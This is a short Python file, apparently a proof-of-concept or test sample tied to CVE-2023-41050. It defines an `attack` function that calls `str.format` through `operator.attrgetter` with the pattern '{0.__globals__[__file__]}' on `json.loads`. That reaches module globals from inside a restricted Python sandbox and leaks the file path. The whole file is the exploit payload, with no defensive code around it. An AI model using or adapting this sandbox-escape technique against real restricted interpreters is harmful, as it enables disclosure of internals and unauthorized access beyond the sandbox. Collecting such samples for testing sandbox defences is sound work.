# The method is read by `attrgetter`.
# after: interpreter
# source: CVE-2023-41050 (GHSA-8xv7-89vj-q48c)
import json
from operator import attrgetter
def attack(**_):
    return {"text": attrgetter("format")("{0.__globals__[__file__]}")(json.loads)}
